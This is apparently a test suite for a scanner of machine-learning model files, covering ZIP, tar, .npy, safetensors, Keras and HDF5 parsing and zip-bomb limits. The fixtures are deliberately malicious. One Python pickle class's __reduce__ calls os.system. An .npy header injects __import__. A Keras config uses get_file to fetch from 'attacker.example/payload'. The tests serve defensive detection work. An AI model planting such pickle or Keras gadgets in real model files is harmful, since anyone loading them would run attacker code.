/**
 * The container and header readers: ZIP (central directory, ZIP64, data descriptors, local-header
 * fallback, bombs), bounded inflate, tar, .npy, safetensors, Keras configs and the HDF5 config search.
 * Archives come from CPython's zipfile/tarfile at test time or from fflate.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { zipSync, deflateSync, gzipSync, zlibSync } from 'fflate';
import { readZip, readEntry } from '../../server/src/engine/formats/zip';
import { inflateBounded } from '../../server/src/engine/formats/inflate';
import { parseNpyHeader } from '../../server/src/engine/formats/npy';
import { checkSafetensors } from '../../server/src/engine/formats/safetensors';
import { scanKerasConfig } from '../../server/src/engine/formats/keras-config';
import { findKerasModelConfig, looksLikeHdf5 } from '../../server/src/engine/formats/hdf5';
import { readTar } from '../../server/src/engine/formats/tar';
import { parsePythonLiteral } from '../../server/src/engine/formats/python-literal';
import { scanModelFile } from '../../server/src/engine/formats/model-scan';
import { check, fixture, python, pythonBytes } from './helpers';

const archives = pythonBytes(`
import zipfile, io, pickle, os, tarfile
class Evil:
    def __reduce__(self): return (os.system, ('id',))
def make(**kw):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', **kw) as z:
        z.writestr('archive/data.pkl', pickle.dumps(Evil(), protocol=2))
        z.writestr('archive/data/0', b'\\x00' * 4096)
    return b.getvalue()
out['stored'] = make(compression=zipfile.ZIP_STORED)
out['deflated'] = make(compression=zipfile.ZIP_DEFLATED)
b = io.BytesIO()
with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
    with z.open('archive/data.pkl', 'w', force_zip64=True) as fh:
        fh.write(pickle.dumps(Evil(), protocol=2))
out['zip64'] = b.getvalue()
class Unseekable(io.RawIOBase):
    def __init__(self): self.buf = bytearray()
    def writable(self): return True
    def write(self, data): self.buf += data; return len(data)
u = Unseekable()
with zipfile.ZipFile(u, 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('archive/data.pkl', pickle.dumps(Evil(), protocol=2))
    z.writestr('archive/version', b'3')
out['descriptor'] = bytes(u.buf)
t = io.BytesIO()
with tarfile.open(fileobj=t, mode='w', format=tarfile.GNU_FORMAT) as tf:
    long = 'd/' * 80 + 'model.pkl'
    data = pickle.dumps(Evil(), protocol=2)
    info = tarfile.TarInfo(long); info.size = len(data); tf.addfile(info, io.BytesIO(data))
out['tar'] = t.getvalue()
`);

test('ZIP: central directory, stored and deflated members', () => {
  for (const kind of ['stored', 'deflated']) {
    const bytes = archives[kind]!;
    const zip = readZip(bytes, true);
    assert.equal(zip.source, 'central-directory');
    assert.deepEqual(zip.entries.map((e) => e.name), ['archive/data.pkl', 'archive/data/0']);
    const data = readEntry(bytes, zip.entries[0]!, 1 << 20);
    assert.equal(data.complete, true);
    assert.equal(data.data[0], 0x80);
    const scan = scanModelFile({ path: `m-${kind}.pt`, bytes, fileSize: bytes.length });
    assert.equal(scan.format, 'pytorch-zip');
    assert.equal(scan.globals[0]?.global, 'posix.system');
  }
});

test('ZIP64 extra fields and data descriptors (non-seekable writers) are read', () => {
  for (const kind of ['zip64', 'descriptor']) {
    const bytes = archives[kind]!;
    const scan = scanModelFile({ path: `${kind}.pt`, bytes, fileSize: bytes.length });
    assert.equal(scan.globals[0]?.global, 'posix.system', kind);
    assert.deepEqual(scan.gaps, [], kind);
    assert.deepEqual(scan.archiveDisagreements, [], `${kind}: readers agree on what zipfile writes`);
  }
});

test('ZIP prefix window: without the central directory the local headers still yield data.pkl, and the rest is an info gap', () => {
  const sd = fixture('bad-torch-zip-data-pkl.pt');
  const cut = sd.subarray(0, 700);
  const zip = readZip(cut, false);
  assert.equal(zip.source, 'local-headers');
  assert.equal(zip.partialListing, true);
  const scan = scanModelFile({ path: 'big.pt', bytes: cut, fileSize: 5_000_000_000 });
  assert.ok(scan.globals.some((g) => g.global === 'os.system'), 'data.pkl is scanned from the prefix');
  assert.ok(scan.gaps.some((g) => g.severity === 'info' && /maxModelFileBytes/.test(g.reason)), JSON.stringify(scan.gaps));
  assert.ok(!scan.gaps.some((g) => g.severity === 'warning'), 'a size cap is not a malformed file');
});

test('legacy PyTorch files are fully checked from a prefix that holds their pickles', () => {
  const legacy = fixture('bad-info-torch-legacy.pth');
  const storageStart = legacy.length - 2 * 8 - 6 * 4;
  const scan = scanModelFile({ path: 'legacy.pth', bytes: legacy.subarray(0, storageStart + 4), fileSize: 4_000_000_000 });
  assert.equal(scan.format, 'pytorch-legacy');
  assert.deepEqual(scan.gaps, []);
  assert.equal(scan.pickles.length, 5);
});

test('zip bombs stop at the decompression limit with a warning', () => {
  const zeros = new Uint8Array(16 * 1024 * 1024);
  const bomb = zipSync({ 'archive/data.pkl': [zeros, { level: 1 }] });
  assert.ok(bomb.length < 200_000, `compressed to ${bomb.length}`);
  const scan = scanModelFile({ path: 'bomb.pt', bytes: bomb, fileSize: bomb.length, limits: { maxMemberBytes: 1024 * 1024 } });
  assert.ok(scan.gaps.some((g) => g.severity === 'warning' && /zip bomb|scan limit/.test(g.reason)), JSON.stringify(scan.gaps));
  const out = inflateBounded(deflateSync(zeros), 1000);
  assert.equal(out.exceeded, true);
  assert.equal(out.data.length, 1000);
});

test('the whole-file inflate budget bounds many medium members (overlapping-entry bombs)', () => {
  const member = new Uint8Array(1024 * 1024);
  const files: Record<string, [Uint8Array, { level: 1 }]> = {};
  for (let i = 0; i < 20; i++) files[`m${i}.pkl`] = [member, { level: 1 }];
  const zip = zipSync(files);
  const scan = scanModelFile({ path: 'many.pt', bytes: zip, fileSize: zip.length, limits: { maxTotalInflated: 3 * 1024 * 1024 } });
  assert.ok(scan.gaps.some((g) => g.severity === 'warning'), 'the budget runs out with a warning');
});

test('bounded inflate: zlib, gzip, damaged and truncated streams', () => {
  const text = new TextEncoder().encode('hello model '.repeat(1000));
  assert.equal(inflateBounded(gzipSync(text), 1 << 20, 'gzip').complete, true);
  const damaged = deflateSync(text);
  damaged[5] ^= 0xff;
  const r = inflateBounded(damaged, 1 << 20);
  assert.equal(r.complete, false);
  const truncated = inflateBounded(deflateSync(text).subarray(0, 20), 1 << 20);
  assert.equal(truncated.complete, false);
  assert.ok(truncated.error);
});

test('tar: GNU long names, pickle members', () => {
  const tar = readTar(archives['tar']!);
  assert.equal(tar.members.length, 1);
  assert.ok(tar.members[0]!.name.endsWith('model.pkl'));
  assert.ok(tar.members[0]!.name.length > 100);
  const scan = scanModelFile({ path: 'x.tar.pt', bytes: archives['tar']!, fileSize: archives['tar']!.length });
  assert.equal(scan.globals[0]?.global, 'posix.system');
});

test('.npy headers: versions 1-3, object and structured dtypes, damaged headers', () => {
  const npy = (major: number, header: string): Uint8Array => {
    const text = new TextEncoder().encode(header);
    const lengthBytes = major === 1 ? [text.length & 0xff, text.length >> 8] : [text.length & 0xff, (text.length >> 8) & 0xff, 0, 0];
    return new Uint8Array([0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, major, 0, ...lengthBytes, ...text]);
  };
  const v1 = parseNpyHeader(npy(1, "{'descr': '<f4', 'fortran_order': False, 'shape': (2, 3), }\n"));
  assert.ok(v1.ok && !v1.header.hasObject && v1.header.shape.join() === '2,3');
  const v2 = parseNpyHeader(npy(2, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"));
  assert.ok(v2.ok && v2.header.hasObject);
  const structured = parseNpyHeader(npy(3, "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (4,), }\n"));
  assert.ok(structured.ok && structured.header.hasObject);
  const bad = parseNpyHeader(npy(1, "{'descr': __import__('os'), 'shape': ()}"));
  assert.equal(bad.ok, false);
  assert.equal(parseNpyHeader(npy(1, "{'descr': '<f4'").subarray(0, 12)).ok, false);
  assert.equal(parsePythonLiteral('('.repeat(100) + ')'.repeat(100)), undefined, 'nesting is bounded');
});

test('safetensors: each inconsistency is named', () => {
  const make = (header: object, dataLength: number): Uint8Array => {
    const json = new TextEncoder().encode(JSON.stringify(header));
    const out = new Uint8Array(8 + json.length + dataLength);
    new DataView(out.buffer).setBigUint64(0, BigInt(json.length), true);
    out.set(json, 8);
    return out;
  };
  const ok = make({ a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] }, __metadata__: { format: 'pt' } }, 8);
  assert.deepEqual(checkSafetensors(ok, ok.length).problems, []);
  const cases: Array<[object, number, RegExp]> = [
    [{ a: { dtype: 'F32', shape: [2], data_offsets: [0, 16] } }, 8, /past the 8 bytes/],
    [{ a: { dtype: 'F32', shape: [3], data_offsets: [0, 8] } }, 8, /need 12/],
    [{ a: { dtype: 'X9', shape: [2], data_offsets: [0, 8] } }, 8, /unknown dtype/],
    [{ a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] }, b: { dtype: 'F32', shape: [1], data_offsets: [4, 8] } }, 8, /overlaps/],
    [{ a: { dtype: 'F32', shape: [1], data_offsets: [4, 8] } }, 8, /gap/],
    [{ a: { dtype: 'F32', shape: [1], data_offsets: [0, 4] } }, 8, /cover 4 bytes/],
    [{ a: { dtype: 'F32', shape: [-1], data_offsets: [0, 4] } }, 4, /invalid shape/],
    [{ __metadata__: { n: 1 } }, 0, /__metadata__/],
  ];
  for (const [header, length, problem] of cases) {
    const bytes = make(header, length);
    assert.match(checkSafetensors(bytes, bytes.length).problems.join('; '), problem, JSON.stringify(header));
  }
  const huge = new Uint8Array(16);
  new DataView(huge.buffer).setBigUint64(0, 1n << 40n, true);
  assert.match(checkSafetensors(huge, huge.length).problems[0]!, /100 MB/);
});

test('Keras configs: Lambda layers, custom objects, dangerous module references, built-ins stay quiet', () => {
  const scan = scanKerasConfig({
    module: 'keras', class_name: 'Functional', config: { layers: [
      { module: 'keras.layers', class_name: 'Dense', config: { name: 'd', activation: { module: 'keras.activations', class_name: 'function', config: 'relu' } } },
      { module: 'keras.layers', class_name: 'Lambda', config: { name: 'lam', function: { class_name: '__lambda__', config: { code: 'x' } } } },
      { module: 'my_pkg.layers', class_name: 'Block', config: { name: 'blk' } },
      { module: 'builtins', class_name: 'function', config: 'exec' },
      { module: 'tensorflow.keras.layers', class_name: 'Dense', config: { name: 'tfd' } },
    ] },
  });
  assert.deepEqual(scan.issues.map((i) => `${i.kind}:${i.level}:${i.global ?? i.name}`), [
    'lambda:suspicious:lam',
    'module-reference:suspicious:my_pkg.layers.Block',
    'module-reference:dangerous:builtins.exec',
  ]);
  assert.deepEqual(scanKerasConfig({ module: 'x', class_name: 'Y', config: {} }, new Set(['x.Y'])).issues, [], 'allowGlobals silences custom objects');
});

test('Keras configs: Keras functions a config can call in safe mode (get_file, enable_unsafe_deserialization, dead ops) are reported; model parts are not', () => {
  const scan = scanKerasConfig({
    module: 'keras', class_name: 'Functional', config: { layers: [
      { module: 'keras.layers', class_name: 'Dense', config: { name: 'd', activation: { module: 'keras.activations', class_name: 'function', config: 'gelu' }, kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: {} } } },
      { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' } },
      { module: 'keras.src.utils.file_utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' },
      { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' },
      { module: 'keras.utils', class_name: 'function', config: 'pad_sequences' },
      { module: 'keras.losses', class_name: 'function', config: 'mean_squared_error' },
    ] },
  });
  assert.deepEqual(scan.issues.map((i) => `${i.level}:${i.global}`), [
    'dangerous:keras.src.utils.file_utils.get_file',
    'dangerous:keras.config.enable_unsafe_deserialization',
    'suspicious:keras.utils.pad_sequences',
  ]);
});

/**
 * A `.keras` archive whose config nests `models` Sequential models inside one another, the innermost
 * holding a Lambda layer. The JSON text is built by concatenation (JSON.stringify would recurse).
 */
function nestedKeras(models: number): { archive: Uint8Array; json: string } {
  const lambda = '{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "hidden", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}, "registered_name": null}';
  let json = lambda;
  for (let i = models - 1; i >= 0; i--) json = `{"module": "keras", "class_name": "Sequential", "config": {"name": "s${i}", "layers": [${json}]}, "registered_name": null}`;
  const metadata = new TextEncoder().encode('{"keras_version": "3.6.0"}');
  const archive = zipSync({ 'metadata.json': metadata, 'config.json': new TextEncoder().encode(json), 'model.weights.h5': new Uint8Array([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]) });
  return { archive, json };
}

test('a Lambda layer nested far beyond the old depth limit of 200 is found, with a note about the depth', () => {
  // 250 nested models are 751 JSON levels: Python's json module (Keras's reader) still parses that with
  // its default recursion limit, which python3 confirms here; the old recursive walk stopped at 200.
  const { archive, json } = nestedKeras(250);
  assert.equal(python('import json, sys\nprint(json.loads(sys.stdin.read()) is not None)', [], json).trim(), 'True');
  for (const models of [250, 5_000]) {
    const scan = scanModelFile({ path: 'model.keras', bytes: models === 250 ? archive : nestedKeras(models).archive, fileSize: archive.length });
    const lambdas = scan.keras.filter((k) => k.kind === 'lambda');
    assert.deepEqual(lambdas.map((k) => k.name), ['hidden'], `${models} levels`);
    assert.match(lambdas[0]!.path, /^…\(\d+ levels deep\).*config\.layers\[0\]$/);
    assert.ok(scan.notes.some((n) => new RegExp(`nests ${models * 3 + 4} levels deep .*every level was checked`).test(n)), JSON.stringify(scan.notes));
    assert.deepEqual(scan.gaps, []);
  }
  assert.deepEqual(check('model.keras', archive).map((r) => r.ruleId), ['AIS606']);
});

test('a Keras config over the value cap is reported as not fully checked, never as clean', () => {
  const wide = { class_name: 'Sequential', config: { name: 's', layers: Array.from({ length: 70_000 }, (_, i) => ({ class_name: 'Dense', config: { name: `d${i}` } })) } };
  const scan = scanKerasConfig(wide);
  assert.equal(scan.nodesCapped, true);
  const archive = zipSync({ 'metadata.json': new TextEncoder().encode('{}'), 'config.json': new TextEncoder().encode(JSON.stringify(wide)), 'model.weights.h5': new Uint8Array(8) });
  assert.deepEqual(check('model.keras', archive).map((r) => r.ruleId), ['AIS604']);
});

test('HDF5: the model_config JSON is found in raw bytes; a named but unreadable config is a gap, not clean', () => {
  const h5 = fixture('bad-lambda.h5');
  assert.equal(looksLikeHdf5(h5), true);
  const found = findKerasModelConfig(h5);
  assert.equal(found.hasModelConfigName, true);
  assert.equal(found.configs.length, 1);
  const damaged = new Uint8Array(h5);
  const start = found.configs[0]!.offset;
  damaged.fill(0, start + 20, start + 40);
  const scan = scanModelFile({ path: 'damaged.h5', bytes: damaged, fileSize: damaged.length });
  assert.ok(scan.gaps.some((g) => g.severity === 'warning' && /model_config/.test(g.reason)), JSON.stringify(scan.gaps));
  const userBlock = new Uint8Array(512 + h5.length);
  userBlock.set(h5, 512);
  assert.equal(looksLikeHdf5(userBlock), true, 'a 512-byte user block before the superblock');
});

test('content beats extension: a zip named .safetensors and a pickle named .bin are scanned as what they are', () => {
  const disguised = fixture('bad-pickle-disguised.safetensors');
  assert.equal(scanModelFile({ path: 'w.safetensors', bytes: disguised, fileSize: disguised.length }).format, 'pytorch-zip');
  const pickle = fixture('bad-os-system.pkl');
  const asBin = scanModelFile({ path: 'pytorch_model.bin', bytes: pickle, fileSize: pickle.length });
  assert.equal(asBin.globals[0]?.global, 'os.system');
  const random = new Uint8Array(4096).map((_, i) => (i * 7919) & 0xff);
  const unknown = scanModelFile({ path: 'tokenizer.bin', bytes: random, fileSize: random.length });
  assert.equal(unknown.format, 'unknown');
  assert.deepEqual(unknown.gaps, [], 'an unknown .bin is a note, not a warning');
  const unknownPt = scanModelFile({ path: 'model.pt', bytes: random, fileSize: random.length });
  assert.ok(unknownPt.gaps.some((g) => g.severity === 'warning'), 'a .pt that is not a model is a warning');
});

test('TensorFlow graphs: file ops match only as encoded op-name fields; Keras metadata Lambda layers are found', () => {
  const field = (tag: number, text: string): number[] => [tag, text.length, ...Buffer.from(text, 'latin1')];
  const graph = new Uint8Array([...field(0x0a, 'x'), ...field(0x12, 'Placeholder'), ...field(0x12, 'ReadFile'), ...field(0x12, 'ReadFileV9'), ...Buffer.from('MyReadFile')]);
  const scan = scanModelFile({ path: 'saved_model.pb', bytes: graph, fileSize: graph.length });
  assert.deepEqual(scan.tensorflowFileOps.map((o) => `${o.op}x${o.count}`), ['ReadFilex1']);
  const metadata = new Uint8Array(Buffer.from('\n\x05dense\x12{"class_name": "Lambda", "config": {"name": "lambda"}}', 'latin1'));
  const kerasScan = scanModelFile({ path: 'keras_metadata.pb', bytes: metadata, fileSize: metadata.length });
  assert.equal(kerasScan.keras[0]?.kind, 'lambda');
  const noise = new Uint8Array(Buffer.from('not a graph at all', 'latin1'));
  assert.equal(scanModelFile({ path: 'x.pb', bytes: noise, fileSize: noise.length }).gaps[0]?.severity, 'info');
});

test('a stray end-of-central-directory signature in tensor data is not taken for a polyglot ZIP', () => {
  const st = fixture('good-weights.safetensors');
  const withStray = new Uint8Array(st.length + 22);
  withStray.set(st);
  withStray.set([0x50, 0x4b, 0x05, 0x06], st.length);
  const scan = scanModelFile({ path: 'w.bin', bytes: withStray, fileSize: withStray.length });
  assert.deepEqual(scan.gaps.filter((g) => /ZIP/.test(g.reason)), []);
  assert.ok(!scan.notes.some((n) => /polyglot/.test(n)));
});

test('text files with model extensions: a .pth path file is text, a protocol 0 pickle (even cut short) is a pickle', () => {
  const text = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'latin1'));
  const pathFile = scanModelFile({ path: 'easy-install.pth', bytes: text('import sys; sys.path.insert(0, "/opt/x")\n/opt/lib\n'), fileSize: 47 });
  assert.deepEqual([pathFile.globals.length, pathFile.gaps.length], [0, 0]);
  assert.ok(pathFile.notes.some((n) => /path-configuration/.test(n)));
  const cut = text("cos\nsystem\n(S'id'\ntR");
  const scan = scanModelFile({ path: 'model.pth', bytes: cut, fileSize: cut.length });
  assert.equal(scan.globals[0]?.global, 'os.system');
  assert.ok(scan.gaps.some((g) => g.severity === 'warning'));
});

test('joblib < 0.10 z-files ("ZF" + hex length + zlib) are decompressed and scanned', () => {
  const pickle = fixture('bad-os-system.pkl');
  const header = Buffer.from(`ZF${`0x${pickle.length.toString(16)}`.padEnd(19, ' ')}`, 'latin1');
  const zfile = new Uint8Array([...header, ...zlibSync(pickle)]);
  const scan = scanModelFile({ path: 'old.pkl', bytes: zfile, fileSize: zfile.length });
  assert.equal(scan.globals[0]?.global, 'os.system');
  assert.deepEqual(scan.gaps, []);
});

test('Git LFS pointers (models not checked out) are notes, never header errors', () => {
  const pointer = new Uint8Array(Buffer.from('version https://git-lfs.github.com/spec/v1\noid sha256:4d7a2146\nsize 548105171\n', 'latin1'));
  for (const name of ['model.safetensors', 'pytorch_model.bin', 'model.pt', 'weights.h5']) {
    const scan = scanModelFile({ path: name, bytes: pointer, fileSize: pointer.length });
    assert.deepEqual(scan.gaps, [], name);
    assert.equal(scan.safetensors, undefined, name);
    assert.match(scan.formatLabel, /Git LFS pointer/);
  }
});

test('a .keras archive whose config calls Keras gadgets is reported: get_file as dangerous (AIS601), a dead-op Keras function as AIS607', () => {
  const config = {
    module: 'keras', class_name: 'Sequential', config: { name: 's', layers: [
      { module: 'keras.layers', class_name: 'Dense', config: { name: 'd', units: 1 } },
      { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file', inbound_nodes: [{ args: ['/tmp/x', 'https://attacker.example/payload'] }] },
      { module: 'keras.utils', class_name: 'function', config: 'pad_sequences', registered_name: 'pad_sequences' },
    ] },
  };
  const archive = zipSync({ 'metadata.json': new TextEncoder().encode('{"keras_version": "3.10.0"}'), 'config.json': new TextEncoder().encode(JSON.stringify(config)), 'model.weights.h5': new Uint8Array([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]) });
  const reports = check('model.keras', archive);
  assert.deepEqual(reports.map((r) => r.ruleId), ['AIS601', 'AIS607']);
  assert.match(reports[0]!.message ?? '', /keras\.utils\.get_file.*even in safe mode.*CVE-2025-8747/);
  assert.match(reports[1]!.message ?? '', /keras\.utils\.pad_sequences.*dead op/);
});
